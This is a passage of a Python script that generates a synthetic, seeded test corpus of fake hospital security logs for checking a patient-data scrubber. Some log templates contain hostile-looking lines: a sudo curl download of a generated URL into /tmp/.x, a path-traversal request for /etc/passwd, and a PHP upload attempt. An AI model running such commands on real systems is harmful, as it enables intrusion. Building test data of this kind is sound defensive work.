"""blind9: a ninth blind corpus for the PHI scrubber (issue 18).

Written without opening the scrubber, its results, score.py, the other generators or the other
corpora. Templates are this file's own. Seed 9909.

    gen_blind9.py            writes ../blind9/blind9.jsonl and ../blind9/MANIFEST.md
    gen_blind9.py --check    regenerates in memory, self-tests, compares with the file
    gen_blind9.py --selftest-selftest   shows that the self-test refuses hand-made failures
"""

import datetime as dt
import hashlib
import ipaddress
import json
import os
import random
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import spandoc  # noqa: E402  (re-executes with PYTHONHASHSEED=0)
from spandoc import Doc, I, X, N, record, write_corpus, manifest  # noqa: E402
import indicators as ind  # noqa: E402
from faker import Faker  # noqa: E402

SEED = 9909
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "blind9", "blind9.jsonl")
MAN = os.path.join(HERE, "..", "blind9", "MANIFEST.md")
PER_STYLE = 7

rng = random.Random(SEED)
_FK = {}


def fk(loc):
    if loc not in _FK:
        f = Faker(loc)
        f.seed_instance(rng.getrandbits(32))
        _FK[loc] = f
    return _FK[loc]


def ch(xs):
    return rng.choice(xs)


def digits(n):
    return "".join(str(rng.randint(0, 9)) for _ in range(n))


# ---------------------------------------------------------------- people, places, org

NICK = [("Robert", "Bobby"), ("William", "Billy"), ("Elizabeth", "Liz"), ("Jennifer", "Jenny"), ("Michael", "Mikey"),
        ("Katherine", "Kate"), ("Christopher", "Topher"), ("Jessica", "Jess"), ("Anthony", "Tony"), ("Patricia", "Trish"),
        ("Margaret", "Peggy"), ("Richard", "Dickie")]
URDU_FIRST = ["احمد", "فاطمہ", "عائشہ", "بلال", "زینب", "عمران", "ثناء", "حسن", "نادیہ", "طارق"]
URDU_LAST = ["قریشی", "ملک", "چوہدری", "رضوی", "بخاری", "صدیقی", "انصاری", "گیلانی"]
EU_FIRST = ["Ane", "Iker", "Maialen", "Unai", "Nerea", "Gorka", "Itziar", "Jokin", "Amaia", "Xabier"]
EU_LAST = ["Etxeberria", "Agirre", "Goikoetxea", "Urkiza", "Zubizarreta", "Arrieta", "Olaizola",
           "Iturralde", "Larrañaga", "Ugarte"]
CITIES = {
    "en_US": ["Toledo", "Spokane", "Dayton", "Tulsa", "Boise", "Fresno", "Akron", "Lubbock"],
    "is_IS": ["Akureyri", "Selfoss", "Ísafjörður", "Egilsstaðir", "Húsavík"],
    "et_EE": ["Tartu", "Pärnu", "Narva", "Viljandi", "Rakvere"],
    "lv_LV": ["Daugavpils", "Liepāja", "Jelgava", "Valmiera", "Rēzekne"],
    "lt_LT": ["Kaunas", "Klaipėda", "Šiauliai", "Panevėžys", "Alytus"],
    "sl_SI": ["Maribor", "Celje", "Kranj", "Koper", "Novo mesto"],
    "bg_BG": ["Пловдив", "Варна", "Бургас", "Русе", "Плевен"],
    "ca_ES": ["Girona", "Lleida", "Tarragona", "Manresa", "Vic"],
    "eu_ES": ["Donostia", "Gasteiz", "Bilbo", "Iruñea", "Eibar"],
    "sw_KE": ["Kisumu", "Nakuru", "Eldoret", "Mombasa", "Thika"],
    "bn_BD": ["চট্টগ্রাম", "খুলনা", "রাজশাহী", "সিলেট", "বরিশাল"],
    "ur_PK": ["لاہور", "ملتان", "فیصل آباد", "راولپنڈی", "پشاور"],
    "ga_IE": ["Gaillimh", "Corcaigh", "Luimneach", "Sligeach", "Trá Lí"],
    "af_ZA": ["Stellenbosch", "Bloemfontein", "Potchefstroom", "George", "Paarl"],
    "fil_PH": ["Cebu", "Davao", "Iloilo", "Bacolod", "Baguio"],
    "mk_MK": ["Битола", "Куманово", "Прилеп", "Охрид", "Штип"],
    "zh_TW": ["臺中", "高雄", "臺南", "新竹", "嘉義"],
    "en_GB": ["Leeds", "Derby", "Swindon", "Exeter", "Carlisle"],
}
ORG_KIND = {
    "en_US": ["Regional Medical Center", "Community Hospital", "Health System", "Family Clinic"],
    "is_IS": ["Heilbrigðisstofnun"], "et_EE": ["Haigla"], "lv_LV": ["slimnīca"],
    "lt_LT": ["ligoninė"], "sl_SI": ["bolnišnica"], "bg_BG": ["болница"],
    "ca_ES": ["Hospital"], "eu_ES": ["Ospitalea"], "sw_KE": ["County Referral Hospital"],
    "bn_BD": ["Medical College Hospital"], "ur_PK": ["General Hospital"],
    "ga_IE": ["University Hospital"], "af_ZA": ["Mediclinic"], "fil_PH": ["Medical Center"],
    "mk_MK": ["клиничка болница"], "zh_TW": ["醫院"], "en_GB": ["NHS Trust"],
}
TLD = {"en_US": "org", "is_IS": "is", "et_EE": "ee", "lv_LV": "lv", "lt_LT": "lt", "sl_SI": "si",
       "bg_BG": "bg", "ca_ES": "cat", "eu_ES": "eus", "sw_KE": "go.ke", "bn_BD": "gov.bd",
       "ur_PK": "org.pk", "ga_IE": "ie", "af_ZA": "co.za", "fil_PH": "ph", "mk_MK": "mk",
       "zh_TW": "org.tw", "en_GB": "nhs.uk"}
TRANSLIT = {"Пловдив": "plovdiv", "Варна": "varna", "Бургас": "burgas", "Русе": "ruse",
            "Плевен": "pleven", "চট্টগ্রাম": "chattogram", "খুলনা": "khulna", "রাজশাহী": "rajshahi",
            "সিলেট": "sylhet", "বরিশাল": "barishal", "لاہور": "lahore", "ملتان": "multan",
            "فیصل آباد": "faisalabad", "راولپنڈی": "rawalpindi", "پشاور": "peshawar",
            "Битола": "bitola", "Куманово": "kumanovo", "Прилеп": "prilep", "Охрид": "ohrid",
            "Штип": "stip", "臺中": "taichung", "高雄": "kaohsiung", "臺南": "tainan",
            "新竹": "hsinchu", "嘉義": "chiayi"}
FAKER_LOC = {"ca_ES": "es_ES", "eu_ES": "es_ES", "sw_KE": "sw", "ur_PK": "en_PK",
             "af_ZA": "zu_ZA", "fil_PH": "fil_PH"}


class Org:
    def __init__(self, loc="en_US"):
        self.loc = loc
        city = ch(CITIES[loc])
        kind = ch(ORG_KIND[loc])
        if loc in ("zh_TW",):
            self.name = f"{city}{ch(['仁愛', '博愛', '慈心'])}{kind}"
        elif loc in ("lv_LV", "lt_LT", "sl_SI", "bg_BG", "mk_MK"):
            self.name = f"{city} {kind}" if loc != "lv_LV" else f"{city} reģionālā {kind}"
        elif loc in ("is_IS", "eu_ES"):
            self.name = f"{kind} {city}" if loc == "is_IS" else f"{city}ko {kind}"
        elif loc == "ca_ES":
            self.name = f"{kind} Comarcal de {city}"
        elif loc == "af_ZA":
            self.name = f"{kind} {city}"
        elif loc == "en_US":
            self.name = f"{fk('en_US').last_name()} {kind}" if rng.random() < 0.5 else f"{city} {kind}"
        else:
            self.name = f"{city} {kind}"
        base = TRANSLIT.get(city) or ind.slug(city.replace("ð", "d").replace("Ð", "D").replace("þ", "th").replace("æ", "ae"))
        self.dom = f"{base}{ch(['hosp', 'health', 'med', 'h'])}.{TLD[loc]}"
        self.short = (re.sub(r"[^A-Z]", "", ind.ascii_fold(base).upper())[:4] or "HSP") + ch(["H", "MC", "RH"])
        self.nb = self.short
        self.hosts = []

    def dict(self):
        return {"name": self.name, "domains": [self.dom]}

    def host(self, fq=False):
        while True:
            h = f"{ch(['ws', 'pc', 'nb', 'srv', 'wks', 'ed', 'icu', 'lab', 'rx'])}-{ch(['ed', 'icu', 'or', 'lab', 'adm', 'rad', 'ph', 'fin', 'him'])}{rng.randint(1, 399):03d}"
            if h not in self.hosts:
                self.hosts.append(h)
                break
        if fq:
            h = f"{h}.{self.dom}"
        return I(h, "HOSTNAME")


class P:
    def __init__(self, loc="en_US"):
        if loc == "ur_PK":
            self.first, self.last = ch(URDU_FIRST), ch(URDU_LAST)
        elif loc == "eu_ES":
            self.first, self.last = ch(EU_FIRST), ch(EU_LAST)
        else:
            f = fk(FAKER_LOC.get(loc, loc))
            self.first, self.last = f.first_name(), f.last_name()
        self.loc = loc
        self.age = rng.randint(19, 88)
        self.dob = dt.date(2026 - self.age, rng.randint(1, 12), rng.randint(1, 28))

    @property
    def full(self):
        if self.loc == "zh_TW":
            return self.last + self.first
        return f"{self.first} {self.last}"

    def n(self, form="full"):
        if form == "full":
            s = self.full
        elif form == "lf":
            s = f"{self.last}, {self.first}"
        elif form == "LF":
            s = f"{self.last.upper()} {self.first}"
        elif form == "LFc":
            s = f"{self.last.upper()}, {self.first.upper()}"
        elif form == "init":
            s = f"{self.first[0]}. {self.last}"
        elif form == "first":
            s = self.first
        elif form == "last":
            s = self.last
        elif form == "fl":
            s = f"{self.first[0]}{self.last[0]}"
        return I(s, "NAME")

    def user(self, style=0):
        a, b = ind.slug(self.first), ind.slug(self.last)
        if not a or not b or not ind.is_latin(self.first + self.last):
            return I(f"{ch(['emp', 'u', 'st'])}{digits(5)}", "USERNAME")
        u = [f"{a[0]}{b}", f"{a}.{b}", f"{b}{a[0]}", f"{a[:3]}{b[:3]}{rng.randint(1, 9)}"][style % 4]
        return I(u, "USERNAME")

    def mail(self, org):
        if not ind.is_latin(self.first + self.last):
            return I(f"{ch(['emp', 'u', 'st'])}{digits(5)}@{org.dom}", "EMAIL")
        return I(f"{ind.slug(self.first)}.{ind.slug(self.last)}@{org.dom}", "EMAIL")

    def freemail(self):
        if not ind.is_latin(self.first + self.last):
            return I(f"{ch(['home', 'mama', 'family'])}{digits(4)}@{ch(['gmail.com', 'yahoo.com'])}", "EMAIL")
        return I(f"{ind.slug(self.first)[:6]}{ind.slug(self.last)[:5]}{rng.randint(1, 99)}@{ch(['gmail.com', 'yahoo.com', 'outlook.com', 'icloud.com'])}", "EMAIL")


def phone(loc="en_US"):
    f = {
        "en_US": lambda: f"({rng.randint(201, 989)}) {rng.randint(200, 989)}-{digits(4)}",
        "is_IS": lambda: f"+354 {rng.choice('678')}{digits(2)} {digits(4)}",
        "et_EE": lambda: f"+372 5{digits(3)} {digits(4)}",
        "lv_LV": lambda: f"+371 2{digits(3)} {digits(4)}",
        "lt_LT": lambda: f"+370 6{digits(2)} {digits(5)}",
        "sl_SI": lambda: f"+386 {ch(['31', '40', '41', '51', '70'])} {digits(3)} {digits(3)}",
        "bg_BG": lambda: f"+359 {ch(['87', '88', '89'])} {digits(3)} {digits(4)}",
        "ca_ES": lambda: f"+34 6{digits(2)} {digits(2)} {digits(2)} {digits(2)}",
        "eu_ES": lambda: f"6{digits(2)} {digits(3)} {digits(3)}",
        "sw_KE": lambda: f"+254 7{digits(2)} {digits(3)} {digits(3)}",
        "bn_BD": lambda: f"+880 1{rng.choice('3456789')}{digits(2)}-{digits(6)}",
        "ur_PK": lambda: f"03{digits(2)}-{digits(7)}",
        "ga_IE": lambda: f"08{rng.choice('35679')} {digits(3)} {digits(4)}",
        "af_ZA": lambda: f"0{ch(['72', '82', '83', '84'])} {digits(3)} {digits(4)}",
        "fil_PH": lambda: f"0917 {digits(3)} {digits(4)}",
        "mk_MK": lambda: f"07{digits(1)} {digits(3)} {digits(3)}",
        "zh_TW": lambda: f"09{digits(2)}-{digits(3)}-{digits(3)}",
        "en_GB": lambda: f"07{digits(3)} {digits(6)}",
    }[loc]
    return I(f(), "PHONE")


def natid(loc, p):
    d = p.dob
    if loc == "is_IS":
        return I(f"{d:%d%m%y}-{digits(4)}", "SSN")
    if loc == "et_EE":
        return I(f"{rng.choice('3456')}{d:%y%m%d}{digits(4)}", "SSN")
    if loc == "lv_LV":
        return I(f"{d:%d%m%y}-{digits(5)}", "SSN")
    if loc == "lt_LT":
        return I(f"{rng.choice('3456')}{d:%y%m%d}{digits(4)}", "SSN")
    if loc == "sl_SI":
        return I(f"{d:%d%m}{d.year % 1000:03d}50{digits(4)}", "SSN")
    if loc == "bg_BG":
        return I(f"{d:%y%m%d}{digits(4)}", "SSN")
    if loc in ("ca_ES", "eu_ES"):
        return I(f"{digits(8)}{ch('TRWAGMYFPDXBNJZSQVHLCKE')}", "SSN")
    if loc == "sw_KE":
        return I(digits(8), "SSN")
    if loc == "bn_BD":
        return I(digits(10), "SSN")
    if loc == "ur_PK":
        return I(f"{digits(5)}-{digits(7)}-{digits(1)}", "SSN")
    if loc == "ga_IE":
        return I(f"{digits(7)}{ch('ABCDEFGHKLMNPTW')}", "SSN")
    if loc == "af_ZA":
        return I(f"{d:%y%m%d}{digits(7)}", "SSN")
    if loc == "mk_MK":
        return I(f"{d:%d%m}{d.year % 1000:03d}4{digits(5)}", "SSN")
    if loc == "zh_TW":
        return I(f"{ch('ABDEFHKLMN')}{rng.choice('12')}{digits(8)}", "SSN")
    return I(f"{rng.randint(101, 665)}-{digits(2)}-{digits(4)}", "SSN")


def street(loc="en_US"):
    if loc == "en_US":
        return I(fk("en_US").street_address(), "ADDRESS")
    if loc == "en_GB":
        return I(fk("en_GB").street_address(), "ADDRESS")
    f = fk(FAKER_LOC.get(loc, loc))
    try:
        return I(f.street_address(), "ADDRESS")
    except AttributeError:
        return I(f"{ch(['Main', 'Kalnu', 'Liiva', 'Rruga', 'Jalan'])} {rng.randint(1, 120)}", "ADDRESS")


def zipc(loc="en_US"):
    if loc == "en_US":
        return I(fk("en_US").zipcode(), "ZIP")
    if loc == "en_GB":
        return I(fk("en_GB").postcode(), "ZIP")
    return I(digits(5), "ZIP")


def city(loc):
    return I(ch(CITIES[loc]), "CITY")


def mrn():
    return I(ch([digits(8), f"E{digits(7)}", f"MR{digits(6)}", digits(7)]), "MRN")


BASE = dt.datetime(2026, 11, rng.randint(2, 24), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))


def now(step=0):
    return BASE + dt.timedelta(seconds=step)


class Clock:
    def __init__(self):
        self.t = BASE + dt.timedelta(days=rng.randint(-20, 5), seconds=rng.randint(0, 86000))

    def tick(self, lo=1, hi=300):
        self.t += dt.timedelta(seconds=rng.randint(lo, hi))
        return self.t


def visit_date():
    return dt.date(2026, rng.randint(8, 11), rng.randint(1, 28))


def D(d, fmt="%Y-%m-%d"):
    return I(d.strftime(fmt), "DATE")


def DT(fmt="%Y-%m-%d %H:%M"):
    d = dt.datetime(2026, rng.randint(8, 11), rng.randint(1, 28), rng.randint(6, 22), rng.choice([0, 10, 15, 20, 30, 40, 45]))
    return I(d.strftime(fmt), "DATETIME")


def LT(t, fmt):
    return N(t.strftime(fmt), "LOGTIME")


def pub():
    return X(ind.public_ipv4(rng), "IPV4")


def priv():
    return I(ind.private_ipv4(rng), "IP")


def dom():
    return X(ind.domain(rng), "DOMAIN")


def url(defang=False):
    u = ind.url(rng)
    return X(ind.defang(u) if defang else u, "URL")


def mal():
    return X(ch(ind.MALWARE), "MALWARE")


def ransom():
    return X(ch(ind.RANSOM), "MALWARE")


def mitre():
    return X(ch(ind.MITRE), "MITRE")


def cve():
    return X(ind.cve(rng), "CVE")


def h256():
    return X(ind.sha256(rng), "SHA256")


def amail(free=True):
    return X(ind.attacker_email(rng, free), "EMAIL_ATTACKER")


ACTORS = ["Scattered Spider", "FIN7", "TA505", "Storm-0501", "UNC3944", "Vanilla Tempest",
          "Gold Mystic", "TA577", "Wizard Spider", "Storm-1811", "UNC2165", "Luna Moth"]


def actor():
    return X(ch(ACTORS), "ACTOR")


BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def wallet():
    if rng.random() < 0.7:
        return X("bc1q" + "".join(ch(BECH) for _ in range(38)), "WALLET")
    return X("4" + "".join(ch("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94)), "WALLET")


def aphone(loc="en_US"):
    if loc == "en_US" or rng.random() < 0.5:
        return X(f"+1 ({ch(['844', '855', '866', '877', '888'])}) {rng.randint(200, 989)}-{digits(4)}", "PHONE_ATTACKER")
    return X(ch([f"+44 7{digits(3)} {digits(6)}", f"+63 9{digits(2)} {digits(3)} {digits(4)}",
                 f"+234 80{digits(1)} {digits(3)} {digits(4)}"]), "PHONE_ATTACKER")


def remote_id():
    return X(ch([f"{rng.randint(1, 9)} {digits(3)} {digits(3)} {digits(3)}", digits(10)]), "REMOTE_ID")


def jdoc(obj, indent=None, lvl=0):
    """JSON text as a Doc; tuple values (spandoc slots) become string values with spans."""
    d = Doc()
    pad = "" if indent is None else "\n" + " " * (indent * (lvl + 1))
    end = "" if indent is None else "\n" + " " * (indent * lvl)
    sep = ", " if indent is None else ","
    if isinstance(obj, dict):
        d.t("{")
        for i, (k, v) in enumerate(obj.items()):
            d.t((sep if i else "") + pad + json.dumps(k) + ": ")
            d.put(jdoc(v, indent, lvl + 1))
        d.t(end + "}")
    elif isinstance(obj, list):
        d.t("[")
        for i, v in enumerate(obj):
            d.t((sep if i else "") + pad)
            d.put(jdoc(v, indent, lvl + 1))
        d.t(end + "]")
    elif isinstance(obj, tuple):
        txt, cat, typ = obj
        d.t('"')
        d.add(json.dumps(txt, ensure_ascii=False)[1:-1], cat, typ)
        d.t('"')
    elif isinstance(obj, Doc):
        d.t('"')
        d.put(obj.json_escaped())
        d.t('"')
    else:
        d.t(json.dumps(obj, ensure_ascii=False))
    return d


def pad(slot, width):
    return [slot, " " * max(1, width - len(slot[0]))]


def cat(*parts):
    d = Doc()
    for p in parts:
        d.put(p)
    return d


def F(template, **kw):
    return Doc().fill(template, **kw)


# ---------------------------------------------------------------- styles: security products

STYLES = []


def style(name, kind="text"):
    def deco(fn):
        STYLES.append((name, kind, fn))
        return fn
    return deco


@style("globalprotect-hip-report")
def s_gp_hip():
    o, p, c = Org(), P(), Clock()
    d = F("HIP Report  {host}\nUser: {nb}\\{u}\nGenerated: {t}\nClient IP: {cip}   Gateway: {gw} (public {gip})\n"
          "Host Info: OS Microsoft Windows 11 Enterprise, Serial {ser}, Domain {ad}\n"
          "Patch Management: missing KB5044284; Anti-Malware: Defender, last scan {t2}\n"
          "Disk Encryption: BitLocker C:\\ encrypted\nMatch: hip-profile 'managed-clinical' = no\n"
          "Note (SOC): login came from {atk} with {u2}'s password after {mal} ran on the laptop; token reuse seen.\n",
          host=o.host(), nb=I(o.nb, "HOSTNAME"), u=p.user(), t=LT(c.tick(), "%Y/%m/%d %H:%M:%S"), cip=priv(),
          gw=I(f"gp-{ch(['east', 'west', 'dc1'])}.{o.dom}", "HOSTNAME"), gip=pub(), ser=I(f"PF{digits(2)}{ch('ABCDEFGH')}{digits(4)}", "DEVICE_SERIAL"), ad=I(f"corp.{o.dom}", "HOSTNAME"),
          t2=LT(c.tick(), "%Y/%m/%d %H:%M:%S"), atk=pub(), u2=p.n("first"), mal=mal())
    return d, "en_US", o


@style("meraki-event-log")
def s_meraki():
    o, c = Org(), Clock()
    d = Doc().t("Time (UTC)\tNetwork\tSource\tEvent type\tDetails\n")
    for i in range(rng.randint(4, 7)):
        p = P()
        k = rng.random()
        d.fill("{t}\tClinic-WiFi\t{h}\t", t=LT(c.tick(), "%b %d %H:%M:%S"), h=ch([o.host(), I(f"{p.first}s-iPhone", "HOSTNAME")]))
        if k < 0.4:
            d.fill("802.1X auth\tidentity: '{u}', radius: {nps}, vap #2, client IP {ip}\n", u=I(f"{ind.slug(p.first)}.{ind.slug(p.last)}@{o.dom}", "EMAIL"), nps=I(f"nps{rng.randint(1, 3):02d}", "HOSTNAME"), ip=priv())
        elif k < 0.7:
            d.fill("Splash login\tguest name '{n}', email {e}, room {r}\n", n=p.n(), e=p.freemail(), r=str(rng.randint(200, 640)))
        else:
            d.fill("Air Marshal\trogue SSID 'Patient-Guest' from BSSID {mac}; captive page posts to {u}\n",
                   mac=X(":".join(f"{rng.randint(0, 255):02x}" for _ in range(6)), "MAC_ATTACKER"), u=url())
    return d, "en_US", o


@style("unifi-controller-log")
def s_unifi():
    o, c = Org(), Clock()
    d = Doc()
    for i in range(rng.randint(4, 6)):
        p = P()
        d.fill("{t} UniFi AP 'Ward4-Hall' [{mac}] User[{cmac}] '{hn}' connected to 'Staff' ({ip}), user {u}\n",
               t=LT(c.tick(), "%Y-%m-%d %H:%M:%S"),
               mac="f4:92:bf:%02x:%02x:%02x" % (rng.randint(0, 255), rng.randint(0, 255), rng.randint(0, 255)),
               cmac=I(":".join(f"{rng.randint(0, 255):02x}" for _ in range(6)), "DEVICE_SERIAL"),
               hn=I(f"{ind.slug(p.first)}-galaxy", "HOSTNAME"), ip=priv(), u=p.user(1))
    d.fill("{t} IPS Alert 1: A Network Trojan was Detected. Signature ET MALWARE {m} CnC Checkin. From: {src}:{sp}, to: {dst}:443, protocol: TCP\n",
           t=LT(c.tick(), "%Y-%m-%d %H:%M:%S"), m=mal(), src=priv(), sp=str(rng.randint(49152, 65000)), dst=pub())
    return d, "en_US", o


@style("proofpoint-tap-json", "json")
def s_tap():
    o, p, c = Org(), P(), Clock()
    dm = ind.domain(rng)
    obj = {"messagesDelivered": [{
        "GUID": hashlib.md5(str(rng.random()).encode()).hexdigest(),
        "QID": f"4{digits(2)}A{digits(5)}",
        "messageTime": N(c.tick().strftime("%Y-%m-%dT%H:%M:%S.000Z"), "LOGTIME"),
        "sender": X(f"billing@{dm}", "EMAIL_ATTACKER"),
        "senderIP": X(ind.public_ipv4(rng), "IPV4"),
        "recipient": [p.mail(o)],
        "toAddresses": [p.mail(o)],
        "subject": "Outstanding balance for patient account",
        "threatsInfoMap": [{"classification": "phish", "threat": X(f"https://{dm}/s/verify", "URL"),
                            "threatStatus": "active", "threatType": "url"},
                           {"classification": "malware", "threat": h256(), "threatType": "attachment"}],
        "headerFrom": X(f"\"Patient Billing\" <billing@{dm}>", "EMAIL_ATTACKER"),
        "clusterId": "pphosted_prod",
        "impostorScore": 0, "malwareScore": rng.randint(60, 100), "phishScore": 100}]}
    obj["messagesDelivered"][0]["headerFrom"] = F('"Patient Billing" <{e}>', e=X(f"billing@{dm}", "EMAIL_ATTACKER"))
    obj["messagesDelivered"][0]["sender"] = X(f"billing@{dm}", "EMAIL_ATTACKER")
    return jdoc(obj, 2), "en_US", o


@style("barracuda-esg-log")
def s_barracuda():
    o, c = Org(), Clock()
    d = Doc()
    for i in range(rng.randint(4, 6)):
        p = P()
        bad = rng.random() < 0.5
        d.fill("{t} {h} inbound/pass1[{pid}]: {ip} {id} 0 {act} {frm} {to} {sc} SZ:{sz} SUBJ:{subj}\n",
               t=LT(c.tick(), "%b %d %H:%M:%S"), h=I(f"esg01.{o.dom}", "HOSTNAME"), pid=str(rng.randint(1000, 9999)),
               ip=pub() if bad else X(ind.public_ipv4(rng), "IPV4"), id=f"{digits(10)}-{digits(5)}-{digits(4)}",
               act="2 BLOCKED" if bad else "0 ALLOWED", frm=amail() if bad else p.freemail(), to=I(f"{ind.slug(p.first)[0]}{ind.slug(p.last)}@{o.dom}", "EMAIL") if bad else I(f"records@{o.dom}", "EMAIL"),
               sc=f"SCORE:{rng.randint(0, 9)}.{digits(1)}", sz=str(rng.randint(2000, 90000)),
               subj=F("Invoice {x}", x=url(True)) if bad else F("Request for my records - {n} DOB {b}", n=p.n(), b=D(p.dob, "%m/%d/%Y")))
    return d, "en_US", o


@style("netsh-advfirewall-show")
def s_netsh():
    o, p = Org(), P()
    d = F("PS C:\\Users\\{u}> netsh advfirewall firewall show rule name=all dir=in | findstr /i \"Rule Remote\"\n", u=p.user())
    for i in range(rng.randint(3, 5)):
        if rng.random() < 0.4:
            d.fill("Rule Name:                            Allow {m} inbound\nRemoteIP:                             {ip}\nLocalPort:                            {port}\n----------------------------------------------------------------------\n",
                   m=X(ch(["AnyDesk", "WinSCP", "Rclone"]), "MALWARE"), ip=pub(), port=str(ch([3389, 5985, 7070, 445])))
        else:
            d.fill("Rule Name:                            EHR Client {n}\nRemoteIP:                             {ip}/32\nLocalPort:                            Any\n----------------------------------------------------------------------\n",
                   n=str(rng.randint(1, 9)), ip=priv())
    d.fill("Host: {h}  (checked by {n}, ext {x})\n", h=o.host(), n=P().n("init"), x=I(f"x{digits(4)}", "PHONE"))
    return d, "en_US", o


@style("quser-output")
def s_quser():
    o, c = Org(), Clock()
    d = F("C:\\> quser /server:{h}\n USERNAME              SESSIONNAME        ID  STATE   IDLE TIME  LOGON TIME\n", h=o.host())
    for i in range(rng.randint(3, 5)):
        p = P()
        d.fill(" {u}rdp-tcp#{n}{id}Active  {idle}{lt}\n", u=pad(p.user(), 22), n=f"{rng.randint(1, 40):<9} ", id=f"{rng.randint(2, 30):<3} ",
               idle=f"{ch(['.', '5', '1:02', 'none']):<9}  ", lt=LT(c.tick(60, 4000), "%m/%d/%Y %I:%M %p"))
    d.fill(" {u}rdp-tcp#{n}        44  Active  .          {lt}\nAnalyst: '{sb}' session above originates from {ip}; {tool} was staged in C:\\PerfLogs.\n",
           u=pad(I("svc_backup", "USERNAME"), 22), sb=I("svc_backup", "USERNAME"), n="51", lt=LT(c.tick(), "%m/%d/%Y %I:%M %p"), ip=pub(), tool=mal())
    return d, "en_US", o


@style("get-winevent-list")
def s_getwinevent():
    o, c = Org(), Clock()
    d = F("PS> Get-WinEvent -FilterHashtable @{LogName='Security';Id=4625,4624} -ComputerName {h} | Format-List\n\n", h=o.host(True))
    for i in range(rng.randint(2, 4)):
        p = P()
        bad = i % 2 == 0
        d.fill("TimeCreated  : {t}\nProviderName : Microsoft-Windows-Security-Auditing\nId           : {id}\nMessage      : An account {w}.\n               Account Name:  {u}\n               Account Domain:  {nb}\n               Workstation Name:  {ws}\n               Source Network Address:  {ip}\n\n",
               t=LT(c.tick(), "%m/%d/%Y %I:%M:%S %p"), id="4625" if bad else "4624", w="failed to log on" if bad else "was successfully logged on",
               u=p.user(2), nb=I(o.nb, "HOSTNAME"), ws=ch(["DESKTOP-" + "".join(ch("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(7)), "kali"]) if bad else o.host(),
               ip=pub() if bad else priv())
    return d, "en_US", o


@style("last-lastb-output")
def s_last():
    o, c = Org(), Clock()
    d = F("[root@{h} ~]# last -n 6 -i\n", h=o.host())
    for i in range(rng.randint(3, 5)):
        p = P()
        d.fill("{u}pts/{n}     {ip}{t}   still logged in\n", u=pad(p.user(), 10), n=str(i), ip=pad(priv(), 17), t=LT(c.tick(), "%a %b %d %H:%M"))
    d.t("\n[root@").put(I(o.hosts[0], "HOSTNAME")).t(" ~]# lastb | head -4\n")
    for i in range(4):
        d.fill("{u}ssh:notty    {ip}{t} - {t2}  (00:00)\n", u=f"{ch(['root', 'admin', 'oracle', 'ubuntu', 'test']):<10}", ip=pad(pub(), 17),
               t=LT(c.tick(1, 5), "%a %b %d %H:%M"), t2=LT(c.tick(0, 1), "%H:%M"))
    return d, "en_US", o


@style("journalctl-short-iso")
def s_journal():
    o, c = Org(), Clock()
    hn = o.host()
    d = Doc()
    for i in range(rng.randint(5, 7)):
        p = P()
        k = i % 3
        d.fill("{t} ", t=LT(c.tick(), "%Y-%m-%dT%H:%M:%S+0000")).put(hn)
        if k == 0:
            d.fill(" sshd[{pid}]: Accepted publickey for {u} from {ip} port {pt} ssh2: ED25519 SHA256:{fp}\n", pid=str(rng.randint(900, 99999)), u=p.user(),
                   ip=priv(), pt=str(rng.randint(40000, 65000)), fp="".join(ch("ABCDEFabcdef0123456789+/") for _ in range(43)))
        elif k == 1:
            d.fill(" sudo[{pid}]: {u} : TTY=pts/1 ; PWD=/home/{u2} ; USER=root ; COMMAND=/usr/bin/curl -s {url} -o /tmp/.x\n", pid=str(rng.randint(900, 99999)),
                   u=p.user(), u2=p.user(), url=url())
        else:
            d.fill(" kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={me} PROTO=TCP SPT={sp} DPT=22\n", ip=pub(), me=priv(), sp=str(rng.randint(1024, 65000)))
    return d, "en_US", o


@style("apache-combined-portal")
def s_apache():
    o, c = Org(), Clock()
    d = Doc()
    for i in range(rng.randint(4, 6)):
        p = P()
        if rng.random() < 0.55:
            d.fill('{ip} - {u} [{t}] "GET /portal/appointments?patient={m}&dob={dob}&name={nm} HTTP/1.1" 200 {sz} "https://{h}/portal/home" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)"\n',
                   ip=priv(), u=I(f"{ind.slug(p.first)}{ind.slug(p.last)[:3]}{rng.randint(1, 99)}", "USERNAME"), t=LT(c.tick(), "%d/%b/%Y:%H:%M:%S +0000"), m=mrn(),
                   dob=D(p.dob, "%Y-%m-%d"), nm=I(f"{ind.slug(p.last).upper()}%2C{ind.slug(p.first).upper()}", "NAME"), sz=str(rng.randint(900, 9000)), h=I(f"mychart.{o.dom}", "HOSTNAME"))
        else:
            d.fill('{ip} - - [{t}] "GET /portal/api/records?mrn=../../../../etc/passwd HTTP/1.1" 403 199 "-" "{ua}"\n', ip=pub(), t=LT(c.tick(), "%d/%b/%Y:%H:%M:%S +0000"),
                   ua=ch(["sqlmap/1.8", "Nuclei - Open-source project", "python-requests/2.32"]))
    return d, "en_US", o


@style("nginx-json-log", "jsonl")
def s_nginx():
    o, c = Org(), Clock()
    d = Doc()
    for i in range(rng.randint(4, 6)):
        p = P()
        bad = rng.random() < 0.4
        obj = {"time_iso8601": N(c.tick().strftime("%Y-%m-%dT%H:%M:%S+00:00"), "LOGTIME"),
               "remote_addr": (ind.public_ipv4(rng), "ind", "IPV4") if bad else (ind.private_ipv4(rng), "id", "IP"),
               "remote_user": "-" if bad else (ind.slug(p.first)[0] + ind.slug(p.last), "id", "USERNAME"),
               "request": "POST /api/proxy/upload?file=a.php HTTP/2.0" if bad
               else F("GET /results/{m}/pdf HTTP/2.0", m=mrn()),
               "status": 403 if bad else 200, "http_referer": (ind.url(rng), "ind", "URL") if bad else "-",
               "http_x_forwarded_for": "-", "host": (f"results.{o.dom}", "id", "HOSTNAME")}
        d.put(jdoc(obj)).t("\n")
    return d, "en_US", o


@style("iis-w3c-log")
def s_iis():
    o, c = Org(), Clock()
    d = F("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: {t}\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status time-taken\n",
